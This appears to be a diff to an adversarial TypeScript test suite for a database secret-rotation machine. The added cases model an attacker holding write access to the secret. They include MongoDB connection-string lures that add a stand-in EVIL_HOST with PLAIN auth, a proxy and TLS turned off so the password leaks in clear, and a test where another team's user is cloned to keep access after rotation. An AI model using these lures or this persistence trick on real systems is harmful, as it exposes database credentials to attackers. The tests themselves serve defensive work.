@@ -91,6 +91,12 @@ const atEachMoment = async (attack: (moment: number) => Promise<Arena>, first = 
   for (let moment = first; (await attack(moment)).wasReached; moment += 1);
 };
 
+/** What stands behind user and password: a program that reads it tells my host the password in clear. */
+const LURES = [
+  `${CLUSTER},${EVIL_HOST}/?authMechanism=PLAIN`,
+  `${CLUSTER}/?proxyHost=${EVIL_HOST}&tls=false&authMechanism=PLAIN`,
+];
+
 describe('what gets in:', () => {
   // A record of before the drop makes no pair, but its versions still count as proven, and show whose a name is where the roles are alike.
   it.fails.each(PAIRS.flatMap((name) => ['rotate', 'revert'].map((mode) => [mode, name] as const)))(
@@ -155,28 +161,29 @@ describe('what gets in:', () => {
     'an execution of mine under the name that a retirement will have: the rotation says that one was started, and none was: %s',
     async (name) => {
       const arena = enter(name, ['start'], { retirementPolicy: 'lock' });
-      const old = arena.world.credentialOf(arena.current());
-      // In a world of my own I see the name beforehand.
+      // In a world of my own I see the name beforehand. An input that is refused makes no alarm ring.
       const other = new RotationMachine(enter(name, [], { retirementPolicy: 'lock' }).world, {
         calls: new PortCalls(),
       });
       await other.run(executionArn('mine'), { secretId: SECRET });
-      const taken = new Set(other.retirements.map((request) => (request as { Name: string }).Name));
-      const { error } = await arena.retire({});
-      expect(error).toBe('InvalidInputError');
+      const taken = other.retirements.map((request) => (request as { Name: string }).Name);
+      const started: string[] = [];
       const startExecution = async ({ Name }: { Name: string }) => {
-        if (!taken.has(Name)) return { ExecutionArn: Name };
-        throw Object.assign(new Error('it has ended'), {
-          name: 'StepFunctions.ExecutionAlreadyExistsException',
-        });
+        if (taken.includes(Name)) {
+          const error = new Error('it has ended');
+          error.name = 'StepFunctions.ExecutionAlreadyExistsException';
+          throw error;
+        }
+        started.push(Name);
+        return { ExecutionArn: Name };
       };
       const tasks = { 'arn:aws:states:::states:startExecution': startExecution as never };
       const { output } = await new RotationMachine(arena.world, { calls: new PortCalls(), tasks }).run(
         executionArn('mine'),
         { secretId: SECRET },
       );
-      expect(old && arena.world.database.accepts(old)).toBe(true);
-      expect(output).toMatchObject({ outcome: 'rotated', retirement: 'unknown' });
+      const { retirement } = output as { retirement: string };
+      expect(started.length > 0 || retirement === 'unknown').toBe(true);
     },
   );
 
@@ -203,13 +210,25 @@ describe('what gets in:', () => {
     expect(twin && arena.world.database.accepts(twin)).toBeFalsy();
   });
 
+  it.fails('a password of another team’s user that I read once: a second user with its roles, which stays when that password is changed', async () => {
+    const arena = enter('alternating-users', ['write', 'read']);
+    const { database } = arena.world;
+    const seen = { username: OTHER_USER, password: newPassword() };
+    database.addUser(OTHER_USER, seen.password, READ_WRITE);
+    arena.write(seen);
+    await arena.honest.scheduled();
+    const [twin] = arena.read().filter(({ username }) => username === `${OTHER_USER}_clone`);
+    database.addUser(OTHER_USER, newPassword(), READ_WRITE);
+    expect(twin && database.accepts(twin)).toBeFalsy();
+  });
+
   // A connection string counts as the secret's own if one of its hosts is: the others, and its options, are the writer's.
-  it.fails.each(['single-user', ...PAIRS])(
-    'a connection string for the cluster and my host, in a value of which an operator mends the password: it gets the next password: %s',
-    async (name) => {
+  it.fails.each(['single-user', ...PAIRS].flatMap((name) => LURES.map((lure) => [lure, name] as const)))(
+    'a connection string for the cluster, in a value of which an operator mends the password: it gets the next password: %s, %s',
+    async (lure, name) => {
       const arena = enter(name, ['write']);
       const { password } = currentValue(arena);
-      const uri = `mongodb://${arena.user}:outdated@${CLUSTER},${EVIL_HOST}/?authMechanism=PLAIN`;
+      const uri = `mongodb://${arena.user}:outdated@${lure}`;
       arena.write({ password: newPassword(), uri });
       editByHand(arena, { password });
       await arena.honest.rotate();
